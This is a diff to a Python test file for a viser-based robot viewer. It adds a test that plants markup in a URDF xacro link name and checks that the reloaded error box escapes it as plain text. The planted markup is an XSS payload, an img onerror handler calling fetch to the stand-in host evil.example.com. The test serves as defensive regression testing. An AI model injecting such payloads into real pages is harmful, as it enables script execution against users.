@@ -9,8 +9,10 @@ The real viser server runs on 127.0.0.1, port 0; the attacks are made with the
 
 from __future__ import annotations
 
+import html
 import http.client
 import math
+import os
 import shutil
 import socket
 import sys
@@ -303,3 +305,25 @@ def test_an_upload_against_a_control_is_dropped_unread(served, capfd):
         _until(lambda: served.joint_values()["shoulder"] == 1.0, "the joint did not move")
     assert served.server.gui._current_file_upload_states == {}
     assert _stderr_lines(capfd) == []
+
+
+def test_markup_in_an_error_message_is_shown_as_text(served):
+    """A file the viewer reloads is the attacker's: its names reach the page inside the
+    error message. The error box is HTML (so that it wraps): every character of the
+    message is text there, never an element, an attribute or a script."""
+    robot = next(path for path in served.model.files if path.name == "arm.urdf.xacro")
+    markup = "&lt;img src=x onerror=&quot;fetch('//evil.example.com')&quot;&gt;"
+    text = robot.read_text()
+    robot.write_text(text.replace('<child link="upper_arm"/>', f'<child link="{markup}"/>', 1))
+    stat = robot.stat()  # (a later stamp than the one recorded, even on a coarse clock)
+    os.utime(robot, ns=(stat.st_atime_ns, stat.st_mtime_ns + 10**9))
+    _, error = served.reload_if_changed()
+    assert error is not None
+    # The control: the message itself holds the markup, as the file wrote it.
+    quoted = "<img src=x onerror=\"fetch('//evil.example.com')\">"
+    assert any(quoted in line for line in served.errors), served.errors
+    box = served.error_box.content
+    assert "<img" not in box and "onerror=\"" not in box
+    assert html.escape(quoted, quote=True) in box
+    assert box.startswith('<div class="mcar-errors" ') and box.endswith("</div>")
+    assert box.count("<") == 2  # its own <div> and </div>, nothing of the file's
